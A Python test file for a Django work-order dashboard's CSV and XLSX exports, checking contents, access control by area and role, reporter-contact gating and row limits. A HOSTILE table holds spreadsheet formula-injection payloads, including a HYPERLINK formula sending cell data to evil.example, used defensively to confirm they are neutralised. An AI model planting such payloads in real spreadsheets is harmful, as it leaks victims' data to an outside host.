# ruff: noqa: F811  (`orders` is a fixture imported from test_views)
"""Exports: the orders behind a filter or a figure and the indicator tables, as CSV and
XLSX, checked cell by cell against the orders and `indicators.dashboard`; who may download
what (another street's orders never appear), the reporter's contact, formula injection,
hostile text, empty results and the spreadsheet's row limit."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.utils import timezone, translation

from yunbao.insight import exports, indicators, views_exports
from yunbao.insight.indicators import INDICATORS, Filter
from yunbao.insight.store import catch_up
from yunbao.insight.tests.helpers import MONDAY, at, report_at
from yunbao.insight.tests.test_views import client_for, orders  # noqa: F401  (a fixture)
from yunbao.insight.views import orders_for
from yunbao.testing import World
from yunbao.workorders.models import Status, WorkOrder

pytestmark = pytest.mark.django_db

WEEK = f"start={MONDAY.isoformat()}&end={(MONDAY + dt.timedelta(days=6)).isoformat()}"
ORDERS_CSV = "/insight/export/orders.csv"
ORDERS_XLSX = "/insight/export/orders.xlsx"
IND_CSV = "/insight/export/indicators.csv"
IND_XLSX = "/insight/export/indicators.xlsx"


@pytest.fixture(autouse=True)
def _shanghai(settings: Any) -> None:
    settings.TIME_ZONE = "Asia/Shanghai"


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def read_csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    raw = body(response)
    assert raw.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:])))


def read_xlsx(response: Any) -> openpyxl.Workbook:
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    assert response["Content-Type"] == views_exports.XLSX_TYPE
    return openpyxl.load_workbook(io.BytesIO(body(response)))


def sheet_rows(ws: Any) -> list[list[Any]]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def shanghai(moment: dt.datetime | None) -> dt.datetime | None:
    if moment is None:
        return None
    return moment.astimezone(dt.timezone(dt.timedelta(hours=8))).replace(tzinfo=None)


def expected_row(order: WorkOrder, *, contact: bool = False) -> list[Any]:
    """What a row must say, from the order itself (not from the export's own lookups)."""
    order.refresh_from_db()
    grid = order.grid
    village = grid.parent if grid else None
    street = village.parent if village else None
    row: list[Any] = [
        order.number,
        order.get_status_display(),
        order.get_source_display(),
        order.get_urgency_display(),
        order.category.code if order.category else "",
        order.category.display_name if order.category else "",
        order.scene.display_name if order.scene else "",
        street.display_name if street else "",
        village.display_name if village else "",
        grid.display_name if grid else "",
        str(order.unit) if order.unit else "",
        order.worker.profile.display_name or order.worker.username if order.worker else "",
        order.address,
        order.description,
        order.lat,
        order.lon,
    ]
    row += [
        shanghai(getattr(order, name))
        for name in (
            "created_at",
            "accepted_at",
            "dispatched_at",
            "handled_at",
            "closed_at",
            "accept_due",
            "dispatch_due",
            "handle_due",
            "check_due",
        )
    ]
    row += [order.rework_count, order.rating]
    if contact:
        row += [exports.neutral(order.reporter_name), exports.neutral(order.reporter_phone)]
    return row


def as_csv(row: list[Any]) -> list[str]:
    def text(v: Any) -> str:
        if v is None:
            return ""
        if isinstance(v, dt.datetime):
            return v.strftime("%Y-%m-%d %H:%M:%S")
        return str(v)

    return [text(v) for v in row]


# --- Orders: contents -------------------------------------------------------------------------


def test_orders_csv_matches_the_orders_cell_by_cell(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    response = client_for(world, "dave").get(f"{ORDERS_CSV}?{WEEK}")
    rows = read_csv(response)
    assert "attachment" in response["Content-Disposition"]
    with translation.override("zh-hans"):
        headers = [c.header for c in exports.order_columns(contact=False)]
        assert rows[0] == headers
        assert "编号" in headers[0] or headers[0] != "Number", "headers are translated"
        # Newest first, like the drill-down; same creation time → higher id first.
        expected = sorted(orders.values(), key=lambda o: (o.created_at, o.pk), reverse=True)
        assert [as_csv(expected_row(o)) for o in expected] == rows[1:]
    # Times in Asia/Shanghai: reported at 09:00 local (01:00 UTC).
    reported = rows[0].index(headers[16])
    assert {r[reported] for r in rows[1:]} == {"2025-03-03 09:00:00"}


def test_orders_xlsx_matches_the_orders_cell_by_cell(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    wb = read_xlsx(client_for(world, "dave").get(f"{ORDERS_XLSX}?{WEEK}"))
    assert len(wb.sheetnames) == 1
    rows = sheet_rows(wb.active)
    with translation.override("zh-hans"):
        assert rows[0] == [c.header for c in exports.order_columns(contact=False)]
        expected = sorted(orders.values(), key=lambda o: (o.created_at, o.pk), reverse=True)
        want = [[("" if v is None else v) for v in expected_row(o)] for o in expected]
    got = [[("" if v is None else v) for v in r] for r in rows[1:]]
    assert got == want
    # Real times (sortable in Excel), shown as date and time.
    cell = wb.active.cell(row=2, column=17)
    assert isinstance(cell.value, dt.datetime)
    assert cell.number_format == exports.XLSX_DATETIME


def test_english_headers_when_the_viewer_reads_english(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    client = client_for(world, "dave")
    rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}", HTTP_ACCEPT_LANGUAGE="en"))
    with translation.override("en"):
        assert rows[0] == [c.header for c in exports.order_columns(contact=False)]
    assert rows[0][:2] == ["Number", "Status"]


def test_the_orders_behind_a_figure_are_the_drill_downs(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    client = client_for(world, "dave")
    for key in ("on_time_filing", "response_timeliness", "closing_rate"):
        for part in ("numerator", "denominator"):
            page = client.get(f"/insight/orders/?{WEEK}&indicator={key}&part={part}")
            listed = {o.number for o in page.context["page"].paginator.object_list}
            rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}&indicator={key}&part={part}"))
            assert {r[0] for r in rows[1:]} == listed, (key, part)
    # On-time filing's numerator: `late` was filed three hours after its report.
    rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}&indicator=on_time_filing"))
    assert {r[0] for r in rows[1:]} == {orders["closed"].number, orders["other"].number}


def test_without_an_indicator_the_export_is_the_reports_count(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    """The filter's orders are those the "reports" figure counts: the drill-down of the
    valid report rate's denominator, for every filter tried."""
    client = client_for(world, "dave")
    extra = [
        "",
        f"&street={world.street1.code}",
        f"&unit={world.unit1.pk}",
        f"&category={world.category.pk}",
        "&source=resident",
        "&source=hotline",
    ]
    for more in extra:
        rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}{more}"))
        page = client.get(
            f"/insight/orders/?{WEEK}{more}&indicator=valid_report_rate&part=denominator"
        )
        listed = {o.number for o in page.context["page"].paginator.object_list}
        assert {r[0] for r in rows[1:]} == listed, more
    rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}&unit={world.unit1.pk}"))
    assert [r[0] for r in rows[1:]] == [orders["closed"].number]


# --- Orders: who sees what ----------------------------------------------------------------------


def test_another_streets_orders_never_appear(world: World, orders: dict[str, WorkOrder]) -> None:
    street1 = {orders["closed"].number, orders["late"].number}
    for name, expected in (
        ("alice", street1),
        ("carol", street1),
        ("olga", {orders["other"].number}),
    ):
        client = client_for(world, name)
        rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}"))
        assert {r[0] for r in rows[1:]} == expected, name
        wb = read_xlsx(client.get(f"{ORDERS_XLSX}?{WEEK}"))
        assert {r[0] for r in sheet_rows(wb.active)[1:]} == expected, name
        # Every figure's orders too.
        for key in INDICATORS:
            rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}&indicator={key}&part=denominator"))
            assert {r[0] for r in rows[1:]} <= expected, (name, key)


def test_another_area_is_refused_as_on_the_dashboard(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    alice = client_for(world, "alice")
    for url in (ORDERS_CSV, ORDERS_XLSX, IND_CSV, IND_XLSX):
        response = alice.get(f"{url}?{WEEK}&street={world.street2.code}")
        assert response.status_code == 403, url
        assert b"T020101" not in response.content


@pytest.mark.parametrize("name", ["bob", "walt", "erin", "fay", "oscar"])
def test_other_roles_are_refused(world: World, orders: dict[str, WorkOrder], name: str) -> None:
    client = client_for(world, name)
    for url in (ORDERS_CSV, ORDERS_XLSX, IND_CSV, IND_XLSX):
        assert client.get(f"{url}?{WEEK}").status_code == 403, url


def test_anonymous_visitors_go_to_the_login_page(world: World) -> None:
    for url in (ORDERS_CSV, IND_XLSX):
        response = Client().get(url)
        assert response.status_code == 302
        assert "/login/" in response["Location"]


def test_bad_parameters_are_a_400_that_says_why(world: World) -> None:
    client = client_for(world, "dave")
    cases = {
        "/insight/export/orders.pdf": "CSV",
        f"{ORDERS_CSV}?indicator=nope": "",
        f"{ORDERS_CSV}?indicator=closing_rate&part=half": "",
        f"{ORDERS_CSV}?start=2025-13-01": "2025-13-01",
        f"{IND_CSV}?table=nope": "",
        f"{ORDERS_CSV}?street=ZZZ": "",
    }
    for url, shown in cases.items():
        response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
        assert response.status_code == 400, url
        assert response.context["error"], url
        assert shown in response.context["error"], url


def test_reporters_contact_only_when_asked_and_allowed(
    world: World, orders: dict[str, WorkOrder], monkeypatch: pytest.MonkeyPatch
) -> None:
    WorkOrder.objects.filter(pk=orders["closed"].pk).update(
        reporter_name="王阿姨", reporter_phone="+8613800138000"
    )
    client = client_for(world, "dave")
    plain = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}"))
    text = "\n".join(",".join(r) for r in plain)
    assert "13800138000" not in text
    assert "王阿姨" not in text
    rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}&contact=1"))
    with translation.override("zh-hans"):
        assert rows[0] == [c.header for c in exports.order_columns(contact=True)]
    closed = next(r for r in rows if r[0] == orders["closed"].number)
    # A leading + is a formula to Excel: the phone is kept as text.
    assert closed[-2:] == ["王阿姨", "'+8613800138000"]
    wb = read_xlsx(client.get(f"{ORDERS_XLSX}?{WEEK}&contact=1"))
    row = next(r for r in sheet_rows(wb.active) if r[0] == orders["closed"].number)
    assert row[-2:] == ["王阿姨", "'+8613800138000"]
    # Someone the order page would not show it to is refused, and gets nothing.
    monkeypatch.setattr(views_exports, "shows_contact", lambda user: False)
    refused = client.get(f"{ORDERS_CSV}?{WEEK}&contact=1")
    assert refused.status_code == 403
    assert b"13800138000" not in refused.content


# --- Hostile content -----------------------------------------------------------------------------


HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1": "'\t=1",
    "＝1+1": "'＝1+1",
    'quote " comma , and\nnew line': 'quote " comma , and\nnew line',
    # (No NUL here: PostgreSQL cannot store one; `neutral` drops it too, tested below.)
    "ctrl\x01bell\x07 gone": "ctrlbell gone",
    "</script><b>x</b> 🚮 垃圾": "</script><b>x</b> 🚮 垃圾",
    "a=b is fine": "a=b is fine",
}


def test_neutral_prefixes_formulas_and_drops_control_characters() -> None:
    for raw, safe in HOSTILE.items():
        assert exports.neutral(raw) == safe, raw
    assert exports.neutral("nul\x00 gone") == "nul gone"
    # Numbers are numbers, not text: a negative count is not a formula.
    assert exports.neutral(-3) == -3
    assert exports.neutral(None) is None


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_descriptions_come_out_inert(world: World, fmt: str) -> None:
    made = {}
    for i, text in enumerate(HOSTILE):
        order = report_at(world, at(8, i))
        WorkOrder.objects.filter(pk=order.pk).update(description=text, address=text)
        made[order.number] = HOSTILE[text]
    catch_up()
    response = client_for(world, "dave").get(f"/insight/export/orders.{fmt}?{WEEK}")
    if fmt == "csv":
        rows = read_csv(response)
    else:
        rows = [
            [("" if v is None else v) for v in r] for r in sheet_rows(read_xlsx(response).active)
        ]
    header = rows[0]
    with translation.override("zh-hans"):
        desc = header.index(exports.order_columns(False)[13].header)
        addr = header.index(exports.order_columns(False)[12].header)
    for row in rows[1:]:
        assert row[desc] == made[row[0]], row[0]
        assert row[addr] == made[row[0]], row[0]
        for value in row:
            if isinstance(value, str) and value:
                assert not value.startswith(exports.FORMULA_STARTS), value
    assert len(rows) == len(HOSTILE) + 1
    if fmt == "xlsx":
        # No cell is stored as a formula.
        wb = read_xlsx(client_for(world, "dave").get(f"/insight/export/orders.{fmt}?{WEEK}"))
        for line in wb.active.iter_rows():
            assert all(cell.data_type != "f" for cell in line)


def test_empty_results_are_a_header_only(world: World) -> None:
    client = client_for(world, "dave")
    rows = read_csv(client.get(f"{ORDERS_CSV}?{WEEK}"))
    assert len(rows) == 1
    assert rows[0][0]
    assert len(sheet_rows(read_xlsx(client.get(f"{ORDERS_XLSX}?{WEEK}")).active)) == 1
    wb = read_xlsx(client.get(f"{IND_XLSX}?{WEEK}"))
    indicators_sheet = sheet_rows(wb.worksheets[0])
    assert len(indicators_sheet) == len(INDICATORS) + 1
    assert all(r[2] == 0 and r[3] == 0 and r[4] is None for r in indicators_sheet[1:])
    assert len(sheet_rows(wb.worksheets[4])) == 1  # no unit ranked


def test_more_rows_than_a_sheet_holds_is_refused(
    world: World, orders: dict[str, WorkOrder], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 2)
    response = client_for(world, "dave").get(f"{ORDERS_XLSX}?{WEEK}")
    assert response.status_code == 400
    assert "CSV" in response.content.decode() or "CSV" in response.content.decode("utf-8")
    # CSV has no such limit.
    assert len(read_csv(client_for(world, "dave").get(f"{ORDERS_CSV}?{WEEK}"))) == 4


def test_csv_is_streamed_in_chunks(world: World) -> None:
    table = exports.Table("t", [exports.Column("a")], ([i] for i in range(1001)))
    chunks = list(exports.csv_chunks(table, chunk_rows=100))
    assert len(chunks) == 1 + 11  # the header, then 10 full chunks and one of a row
    assert b"".join(chunks).decode("utf-8-sig").splitlines()[1:] == [str(i) for i in range(1001)]


# --- Indicator tables -------------------------------------------------------------------------


def number(text: str) -> Any:
    try:
        return float(text)
    except ValueError:
        return text


def _rate(r: Any) -> Any:
    return None if r.rate is None else round(r.rate, 6)


def test_indicator_workbook_matches_the_dashboard(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    wb = read_xlsx(client_for(world, "dave").get(f"{IND_XLSX}?{WEEK}"))
    figures = indicators.dashboard(Filter(start=MONDAY, end=MONDAY + dt.timedelta(days=6)))
    assert len(wb.sheetnames) == len(exports.TABLES), wb.sheetnames
    # Indicators: key, label, numerator, denominator, rate — for every indicator.
    rows = sheet_rows(wb.worksheets[0])
    assert [r[0] for r in rows[1:]] == list(INDICATORS)
    for row in rows[1:]:
        r = figures.report.indicators[row[0]]
        assert row[2:] == [r.numerator, r.denominator, _rate(r)], row[0]
    closing = next(r for r in rows if r[0] == "on_time_filing")
    assert closing[2:4] == [2, 3]  # `late` was filed late
    assert wb.worksheets[0].cell(row=2, column=5).number_format == exports.XLSX_RATE
    mean_row = [r[0] for r in rows].index("mean_rating") + 1
    assert wb.worksheets[0].cell(row=mean_row, column=5).number_format == exports.XLSX_MEAN
    # Volumes.
    volumes = sheet_rows(wb.worksheets[1])[1:]
    assert {r[0]: r[2] for r in volumes} == figures.report.volumes
    # Stage durations in hours.
    durations = {r[0]: r for r in sheet_rows(wb.worksheets[2])[1:]}
    for stage, d in figures.report.durations.items():
        mean = None if d.mean_seconds is None else round(d.mean_seconds / 3600, 4)
        assert durations[stage][2:4] == [d.n, mean], stage
    # Scores.
    scores = {r[0]: r[2] for r in sheet_rows(wb.worksheets[3])[1:]}
    assert scores == figures.report.scores
    # Unit ranking: each indicator's parts per unit.
    units = sheet_rows(wb.worksheets[4])
    assert [r[1] for r in units[1:]] == [
        next(u.code for u in (world.unit1, world.unit2) if u.pk == item.key)
        for item in figures.units
    ]
    for row, item in zip(units[1:], figures.units, strict=True):
        assert row[3] == item.score
        assert row[4] == item.report.counts["reports"]
        for i, key in enumerate(INDICATORS):
            r = item.report.indicators[key]
            assert row[5 + 3 * i : 8 + 3 * i] == [r.numerator, r.denominator, _rate(r)]
    villages = sheet_rows(wb.worksheets[5])
    assert {r[1] for r in villages[1:]} == {"T0101", "T0201"}


def test_indicator_csv_tables_match_the_workbook(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    client = client_for(world, "dave")
    wb = read_xlsx(client.get(f"{IND_XLSX}?{WEEK}"))
    for i, name in enumerate(exports.TABLES):
        rows = read_csv(client.get(f"{IND_CSV}?{WEEK}&table={name}"))
        sheet = sheet_rows(wb.worksheets[i])
        # XLSX gives 1.0 back as 1: compare numbers as numbers.
        assert [[number(v) for v in r] for r in rows] == [
            [number(v) for v in as_csv(list(r))] for r in sheet
        ], name


def test_a_viewers_indicator_tables_cover_their_areas_only(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    rows = read_csv(client_for(world, "olga").get(f"{IND_CSV}?{WEEK}&table=villages"))
    assert [r[1] for r in rows[1:]] == ["T0201"]
    reports = read_csv(client_for(world, "olga").get(f"{IND_CSV}?{WEEK}&table=volumes"))
    assert {r[0]: r[2] for r in reports[1:]}["reports"] == "1"


def test_orders_for_agrees_with_the_export_helper(
    world: World, orders: dict[str, WorkOrder]
) -> None:
    """`reported_in` is the "reports" count's orders by construction; check it directly on
    an unfiltered period too (no start or end)."""
    dave = world.users["dave"]
    everything = views_exports.reported_in(dave, Filter())
    assert set(everything) == set(WorkOrder.objects.all())
    f = Filter(start=MONDAY, end=MONDAY)
    assert set(views_exports.reported_in(dave, f)) == set(
        orders_for(dave, "valid_report_rate", f, "denominator")
    )
    assert (
        set(views_exports.reported_in(dave, Filter(start=MONDAY + dt.timedelta(days=1)))) == set()
    )
    assert timezone.get_current_timezone_name() == "Asia/Shanghai"
    assert orders["closed"].status == Status.CLOSED


def test_it_runs_the_exports_benchmark_in_smoke_mode(capsys: pytest.CaptureFixture[str]) -> None:
    from bench.exports import run

    figures = run(smoke=True)
    assert figures["orders"] == 300
    assert figures["orders_csv"]["rows"] == 300
    assert figures["orders_xlsx"]["rows"] == 300
    assert figures["orders_csv"]["rows_per_s"] > 0
    assert "every order as CSV" in capsys.readouterr().out
